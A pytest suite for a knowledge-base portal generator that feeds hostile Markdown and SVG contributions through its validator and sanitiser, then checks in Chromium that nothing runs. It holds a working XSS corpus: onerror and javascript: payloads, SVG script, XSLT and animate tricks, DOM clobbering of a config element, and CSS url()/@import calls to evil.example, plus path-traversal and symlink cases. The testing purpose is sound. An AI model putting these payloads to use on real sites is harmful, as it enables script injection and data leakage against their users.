"""Hostile contributions, written the way an attacker writes them: from how browsers and
Python-Markdown parse, not from how our checks parse.

Each case is one file added to (or changed in) a small knowledge base. Through ``validate`` it
must either be refused — every error naming the file and a line — or accepted without a crash.
Then two portals are built: one from every accepted case (the normal path), and one where
every case's body was put into the knowledge base *after* validation (the validator bypassed:
the portal's own defences alone). Real Chromium opens each payload page, uses the header search
on it, and must see no dialog, no request to another host and no clobbered configuration.
"""

from __future__ import annotations

import re
import shutil
from datetime import date
from pathlib import Path

import pytest

from conftest import make_root
from generator.site.build import Progress, build_site

STUDIO = """---
id: {id}
name: 测试工作室{id}
leader: QD10001
members: [QD10002]
base: FJD-01
founded: 2019-05-10
direction: 锅炉燃烧优化
levels:
  - level: 厂级
    date: 2019-05-10
    granted_by: 秦皇岛发电有限责任公司工会
    document: 秦电工〔2019〕8号
---

## 简介

{body}
"""

ALERT = "alert(1)"
CONFIG = '<div id="__config">{"base":"javascript:alert(1)//"}</div>'
BODIES = {
    "unclosed-fence": "```\n" + CONFIG,
    "unclosed-tilde-fence": "~~~~\n" + CONFIG + "\n~~~",
    "heading-config": "## __config\n\n正文",
    "heading-drawer": "## __drawer\n\n## __search\n\n正文",
    "escaped-backtick": "\\`" + '<span id="__config">x</span>' + "\\`",
    "lone-dollars": "$$\n\n" + CONFIG,
    "dollar-span": '$ <mark title="x" id="__config"> $ 文字',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "cdata": "<![CDATA[ > <img src=x onerror=alert(1)> ]]>",
    "odd-comment": "<!--><img src=x onerror=alert(1)>-->",
    "svg-set": '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "svg-animate": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">点</text></a></svg>',
    "style-import": "<style>@\\69mport url(http://evil.example/x.css);</style>",
    "textarea": '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "footnote-id": "正文[^__config]\n\n[^__config]: 脚注",
    "js-link-in-fence": "```\n[点我](javascript:alert(1))",
    "entity-js-link": "[点我](&#106;avascript:alert(1))",
    "formula-url": "$\\textcolor{url(http://evil.example/x.svg#g)}{x}$",
    "formula-block-url": "$$\n\\color{url(http://evil.example/y.svg#g)}{y}\n$$",
    "placeholder": "QCRAW0QC\n\nQCRAW9999QC",
    "raw-marker": "<!--qc:raw-->\n<img src=x onerror=alert(1)>\n<!--/qc:raw-->",
    "form-action": '<form action="javascript:alert(1)"><button>提交</button></form>',
    "base-tag": '<base href="http://evil.example/">',
    "img-remote": "![x](http://evil.example/a.png)",
    "deep-list": "- " * 600 + "Python-Markdown 递归过深",
    "ref-def": "[x]: javascript:alert(1)\n\n[点][x]",
    "svg-inline-cdata": "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>",
}

SVG_HEAD = b'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40">'
SVGS = {
    "svg-xslt": b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="svg-xslt.svg"?>'  # itself
                b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
                b'<xsl:template match="/"><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
                b'</xsl:template></xsl:stylesheet>',
    "svg-xslt-in-svg": b'<?xml-stylesheet type="text/xsl" href="#x"?>' + SVG_HEAD + b'<rect width="4" height="4"/></svg>',
    "svg-css-escape": SVG_HEAD + b'<style>@\\69mport "http://evil.example/a.css"; rect{fill:u\\72l(http://evil.example/b)}</style>'
                      b'<rect width="4" height="4"/></svg>',
    "svg-fill-url": SVG_HEAD + b'<rect width="4" height="4" fill="url(http://evil.example/c.svg#g)"/></svg>',
    "svg-mask-url": SVG_HEAD + b'<rect width="4" height="4" mask="url( \'//evil.example/d.svg#m\' )" '
                    b'filter="URL(http://evil.example/e.svg#f)"/></svg>',
    "svg-css-stylesheet": b'<?xml-stylesheet type="text/css" href="http://evil.example/f.css"?>' + SVG_HEAD + b'</svg>',
    "svg-script-ns": b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml">'
                     b'<h:script>alert(1)</h:script></svg>',
    "svg-handler": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><g><rect width="4" height="4" onclick="alert(1)"/></g><animate onbegin="alert(1)" dur="1s"/></svg>',
    "svg-set": SVG_HEAD + b'<a><set attributeName="href" to="javascript:alert(1)"/><text y="9">x</text></a></svg>',
    "svg-style-attr": SVG_HEAD + b'<rect width="4" height="4" style="fill:url(http://evil.example/g)"/></svg>',
    "svg-entity": b'<!DOCTYPE svg [<!ENTITY x "alert(1)">]>' + SVG_HEAD + b'<text>&x;</text></svg>',
}
BENIGN_SVGS = {  # what drawing tools write: must be accepted and still draw
    "svg-gbk": '<?xml version="1.0" encoding="gbk"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40">'
               '<title>系统图</title><rect width="40" height="40" fill="#336699"/><text y="20">锅炉</text></svg>'.encode("gbk"),
    "svg-inkscape": b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!-- Created with Inkscape -->\n'
                    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" '
                    b'xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" inkscape:version="1.2">'
                    b'<defs><linearGradient id="lg"><stop offset="0" style="stop-color:#fff"/></linearGradient></defs>'
                    b'<style>.st0{fill:#FF0000;stroke:#000}</style>'
                    b'<rect class="st0" width="40" height="40" fill="url(#lg)"/><use xlink:href="#lg"/></svg>',
}


def _studio(n: int, body: str) -> str:
    return STUDIO.format(id=f"GZS-{n:02d}", body=body)


def _paper_with_figure(name: str) -> tuple[str, str]:
    src = Path(make_root.__globals__["KB_SMALL"]) / "content/papers/2021/LW-2021-001.md"
    text = src.read_text(encoding="utf-8")
    return text, text.rstrip("\n") + f"\n\n![图](LW-2021-001/{name}.svg)\n"


def _cases():
    """(name, {relative path: bytes}) for every hostile or awkward contribution."""
    cases = []
    for n, (name, body) in enumerate(BODIES.items(), start=10):
        cases.append((name, {f"content/studios/GZS-{n:02d}.md": _studio(n, body).encode()}))
    _, with_figure = _paper_with_figure("fig")
    for name, data in {**SVGS, **BENIGN_SVGS}.items():
        cases.append((name, {"content/papers/2021/LW-2021-001/fig.svg": data,
                             "content/papers/2021/LW-2021-001.md": with_figure.encode()}))
    paper, _ = _paper_with_figure("x")
    for value in ("QCRAW0QC", "QCRAW9999QC", "<!--qc:raw-->"):
        cases.append((f"abstract-{value}", {"content/papers/2021/LW-2021-001.md":
                                            paper.replace("abstract: 针对", f"abstract: '{value}' #").encode()}))
    for n, value in enumerate(("QCRAW0QC", "QCRAW9999QC", "QCRAW0-0QC"), start=70):  # in-band placeholders
        cases.append((f"direction-{value}", {f"content/studios/GZS-{n}.md":
                                             _studio(n, "正文").replace("direction: 锅炉燃烧优化", f"direction: {value}").encode()}))
    cases.append(("bulletin-control-char", {"content/bulletins/2022-04.md":
                                            '---\nid: 2022-04\ntitle: "四月\\u0001简报\\u000b"\neditor: QD10004\n---\n\n正文\n'.encode()}))
    cases.append(("hidden-folder", {"content/.hidden/studios/GZS-60.md": _studio(60, "<script>alert(1)</script>").encode()}))
    return cases


CASES = _cases()


def _root_with(tmp_path: Path, files: dict[str, bytes]) -> Path:
    tmp_path.mkdir(parents=True, exist_ok=True)
    root = make_root(tmp_path)
    for rel, data in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(data)
    return root


@pytest.mark.parametrize("name, files", CASES, ids=[c[0] for c in CASES])
def test_validate_refuses_with_file_and_line_or_accepts(tmp_path, name, files):
    from generator.validation import validate

    root = _root_with(tmp_path, files)
    report = validate(root, today=date(2023, 1, 1)).report  # never raises: that is the point
    errors = [i for i in report.issues if i.severity == "error"]
    assert all(i.path and i.line >= 1 for i in errors), [(i.code, i.path, i.line) for i in errors]
    assert all(i.code != "internal" for i in report.issues)
    if name in BENIGN_SVGS:
        assert not errors, [(i.code, i.message) for i in errors]
    if (name.startswith(("svg-", "abstract-<")) and name not in BENIGN_SVGS
            or name in ("hidden-folder", "bulletin-control-char")):
        assert errors, f"{name} accepted"
    for error in errors:
        assert error.path in files or error.path.startswith("content/"), error


def test_symlinked_folder_is_refused(tmp_path):
    from generator.validation import validate

    outside = tmp_path / "outside"
    (outside / "papers").mkdir(parents=True)
    (outside / "papers" / "secret.svg").write_bytes(SVG_HEAD + b"</svg>")
    root = make_root(tmp_path)
    (root / "content" / "linked").symlink_to(outside, target_is_directory=True)
    report = validate(root, today=date(2023, 1, 1)).report
    hits = [i for i in report.issues if i.path.startswith("content/linked")]
    assert hits and all(i.severity == "error" and i.line >= 1 for i in hits)


def _audit(page, origin: str) -> dict:
    """The live DOM as the browser built it: anything that could run or leave the site."""
    return page.evaluate("""(origin) => {
        const bad = [];
        for (const el of document.querySelectorAll('*')) {
            for (const a of el.attributes) {
                const v = a.value.replace(/[\\s\\u0000-\\u001f]/g, '').toLowerCase();
                if (a.name.startsWith('on')) bad.push(el.tagName + ' ' + a.name);
                if (/^(javascript|vbscript|data:text)/.test(v)) bad.push(el.tagName + ' ' + a.name + '=' + v);
            }
            if (el.tagName === 'SCRIPT' && !el.src && el.type !== 'application/json' && el.closest('.qc-body')) bad.push('inline script in body');
            if (['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'META'].includes(el.tagName) && el.closest('.md-content')) bad.push(el.tagName);
        }
        const config = document.getElementById('__config');
        const form = document.querySelector('form.qc-header-search');
        return {bad, configTag: config && config.tagName,
                action: form && form.action, csp: !!document.querySelector('meta[http-equiv="Content-Security-Policy"]')};
    }""", origin)


def _visit(browser, base: str, rels: list[str]) -> list[str]:
    from browser import Page

    failures = []
    context = browser.new_context()
    try:
        for rel in rels:
            page = context.new_page()
            seen = Page(page)
            dialogs: list[str] = []
            page.on("dialog", lambda d, seen_dialogs=dialogs: (seen_dialogs.append(d.message), d.dismiss()))
            page.goto(base + rel, wait_until="load")
            page.wait_for_timeout(150)
            audit = _audit(page, base)
            if audit["bad"] or audit["configTag"] not in ("SCRIPT", None) or not audit["csp"]:
                failures.append(f"{rel}: {audit}")
            if audit["action"] and not audit["action"].startswith(base):
                failures.append(f"{rel}: header search goes to {audit['action']}")
            box = page.locator("form.qc-header-search input")
            if box.count():
                box.fill("锅炉")
                box.press("Enter")
                page.wait_for_timeout(300)
                if not page.url.startswith(base):
                    failures.append(f"{rel}: search went to {page.url}")
            if dialogs or seen.external_requests():
                failures.append(f"{rel}: dialogs {dialogs}, requests {seen.external_requests()}")
            page.close()
    finally:
        context.close()
    return failures


def test_accepted_cases_build_and_run_nothing(tmp_path, browser):
    """Every case the validator accepts, together in one knowledge base: the build succeeds and
    Chromium sees nothing run."""
    from browser import serve
    from generator.validation import validate

    accepted = {}
    for i, (_name, files) in enumerate(CASES):
        root = _root_with(tmp_path / f"c{i}", files)
        if validate(root, today=date(2023, 1, 1)).report.ok and "LW-2021-001.md" not in str(files):
            accepted.update(files)
    assert any("studios/GZS-" in rel for rel in accepted)  # some bodies are plain text, accepted
    root = _root_with(tmp_path / "all", accepted)
    out = tmp_path / "site"
    build_site(root, out=out, build_dir=tmp_path / "build", progress=Progress(False), pdf=False, workers=1)
    pages = [f"studios/{Path(rel).stem}.html" for rel in accepted if "studios/" in rel]
    for n, value in enumerate(("QCRAW0QC", "QCRAW9999QC", "QCRAW0-0QC"), start=70):  # shown as typed
        assert value in (out / f"studios/GZS-{n}.html").read_text(encoding="utf-8")
    import xml.etree.ElementTree as ET

    ET.parse(out / "feed.xml")  # the feed parses (its control characters are refused by validate: control-escape)
    with serve(out) as base:
        assert _visit(browser, base, pages) == []


def test_tampered_cases_are_harmless_in_chromium(tmp_path, browser):
    """Every body put into the knowledge base after validation, and every hostile SVG published
    as if accepted: the portal's own sanitising, page check and CSP alone keep Chromium clean."""
    from browser import serve
    from generator.site.build import REPO_MKDOCS, generate, navigation
    from generator.site.context import Site
    from generator.site.render import Frame, render
    from generator.site.verify import verify_site
    from generator.validation import validate

    root = make_root(tmp_path)
    for n in range(10, 10 + len(BODIES)):
        (root / f"content/studios/GZS-{n:02d}.md").write_text(_studio(n, "占位"), encoding="utf-8")
    result = validate(root, today=date(2023, 1, 1))
    assert result.report.ok
    kb = result.kb
    for n, body in enumerate(BODIES.values(), start=10):
        kb.source_of("studio", f"GZS-{n:02d}").body = "## 简介\n\n" + body
    site = Site(kb=kb, ref_date=date(2023, 1, 1))
    out = tmp_path / "out"
    render(Frame(REPO_MKDOCS, navigation()), generate(site, Progress(enabled=False)), out, [], workers=1)
    check = verify_site(out)
    assert check.ok, check.findings[:5]
    from generator.svg_check import sanitize_svg

    figures = out / "figures"
    figures.mkdir()
    for name, data in SVGS.items():
        (figures / f"{name}.svg").write_bytes(sanitize_svg(data).svg)
    pages = [f"studios/GZS-{n:02d}.html" for n in range(10, 10 + len(BODIES))]
    # the third line alone: markup that got past both checks (put in after them) is not run
    page = (out / pages[0]).read_text(encoding="utf-8")
    missed = page.replace("<article", '<script>alert("csp")</script><img src="x" onerror="alert(2)">'
                          '<img src="http://evil.example/p.png"><article', 1)
    (out / "studios" / "missed.html").write_text(missed, encoding="utf-8")
    without = re.sub(r'<meta http-equiv="content-security-policy"[^>]*>', "", missed)
    (out / "studios" / "missed-without-csp.html").write_text(without, encoding="utf-8")
    with serve(out) as base:
        assert _visit(browser, base, pages) == []
        assert _visit_svgs(browser, base, [f"figures/{name}.svg" for name in SVGS]) == []
        assert _visit_svgs(browser, base, ["studios/missed.html"]) == []
        assert _visit_svgs(browser, base, ["studios/missed-without-csp.html"])  # live without the policy


def _visit_svgs(browser, base: str, rels: list[str]) -> list[str]:
    """Dialogs and requests that left the machine ("request" events the CSP then blocked
    never reach the network: Chromium reports them as failed with "csp")."""
    from browser import Page

    failures = []
    context = browser.new_context()
    try:
        for rel in rels:
            page = context.new_page()
            seen = Page(page)
            dialogs: list[str] = []
            blocked: list[str] = []
            page.on("dialog", lambda d, seen_dialogs=dialogs: (seen_dialogs.append(d.message), d.dismiss()))
            page.on("requestfailed", lambda r, out=blocked: "csp" in (r.failure or "") and out.append(r.url))
            page.goto(base + rel, wait_until="load")
            page.wait_for_timeout(150)
            left = [u for u in seen.external_requests() if u not in blocked]
            if dialogs or left:
                failures.append(f"{rel}: dialogs {dialogs}, requests {left}")
            page.close()
    finally:
        context.close()
    return failures


def test_unsanitised_svg_payloads_really_run_in_chromium(tmp_path, browser):
    """The corpus is live: served as-is, the hostile SVGs do run or fetch in this Chromium (so
    the test above proves the sanitiser, not a harmless corpus)."""
    from browser import serve

    live = {k: SVGS[k] for k in ("svg-xslt", "svg-fill-url", "svg-css-escape", "svg-handler")}
    for name, data in live.items():
        (tmp_path / f"{name}.svg").write_bytes(data)
    with serve(tmp_path) as base:
        failures = _visit_svgs(browser, base, [f"{name}.svg" for name in live])
    assert len(failures) == len(live), failures


def test_benign_svgs_are_kept_drawable():
    from generator.svg_check import sanitize_svg

    for name, data in BENIGN_SVGS.items():
        result = sanitize_svg(data)
        assert not result.problems, (name, result.problems)
        out = result.svg.decode("utf-8")
        assert "<rect" in out and 'width="40"' in out, out
    gbk = sanitize_svg(BENIGN_SVGS["svg-gbk"]).svg.decode("utf-8")
    assert "锅炉" in gbk and "gbk" not in gbk.lower()
    assert 'fill="url(#lg)"' in sanitize_svg(BENIGN_SVGS["svg-inkscape"]).svg.decode()


if shutil.which("chromium") is None:  # setup.sh installs it: a missing browser fails loudly
    raise RuntimeError("chromium missing: run make setup")


def _shape(html: str) -> list[tuple[str, list[str]]]:
    """Elements and their attribute names, as a browser parses the HTML (rel: added by nh3)."""
    from selectolax.lexbor import LexborHTMLParser

    return [(n.tag, sorted(k for k in n.attributes if k != "rel"))
            for n in LexborHTMLParser(html).body.traverse(include_text=False) if n.tag[:1].isalpha()]


def _bodies():
    from test_safety import (
        BODIES as SAFETY_BODIES,  # the validator's own corpus, where there is one
    )

    return {**BODIES, **{f"safety-{i}": b for i, b in enumerate(SAFETY_BODIES)}}


@pytest.mark.parametrize("name, body", list(_bodies().items()), ids=list(_bodies()))
def test_accepted_bodies_render_to_nothing_nh3_removes(tmp_path, name, body):
    """The validator's scan agrees with the renderer: a body it accepts comes out of Python-
    Markdown with no element or attribute that nh3 then has to take away; raw HTML is refused."""
    import markdown

    from generator.site.markup import EXTENSION_CONFIGS, EXTENSIONS, clean_html
    from generator.validation import validate

    root = _root_with(tmp_path, {"content/studios/GZS-10.md": _studio(10, body).encode()})
    report = validate(root, today=date(2023, 1, 1)).report
    if report.ok:
        rendered = markdown.Markdown(extensions=EXTENSIONS, extension_configs=EXTENSION_CONFIGS).convert(body)
        assert _shape(clean_html(rendered, lambda tag, value: value)) == _shape(rendered), name
    else:
        errors = [i for i in report.issues if i.severity == "error"]
        assert {i.path for i in errors} == {"content/studios/GZS-10.md"} and all(i.line >= 18 for i in errors), [(i.code, i.line) for i in errors]


def test_attachments_never_come_from_outside_content(tmp_path):
    """What the validator refuses (a name with "..", a symlink) the portal refuses again."""
    from generator.site.context import Site
    from generator.site.output import Output
    from generator.validation import validate

    root = make_root(tmp_path)
    (tmp_path / "secret.pdf").write_bytes(b"%PDF-1.4 secret")
    folder = root / "content" / "projects" / "2021" / "KT-2021-001"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "link.pdf").symlink_to(tmp_path / "secret.pdf")
    site = Site(kb=validate(root, today=date(2023, 1, 1)).kb, ref_date=date(2023, 1, 1))
    made = Output()
    assert site.attachment("content/projects/2021/KT-2021-001/../../../../../secret.pdf", made) is None
    assert site.attachment("content/projects/2021/KT-2021-001/link.pdf", made) is None
    assert not made.files and made.refused
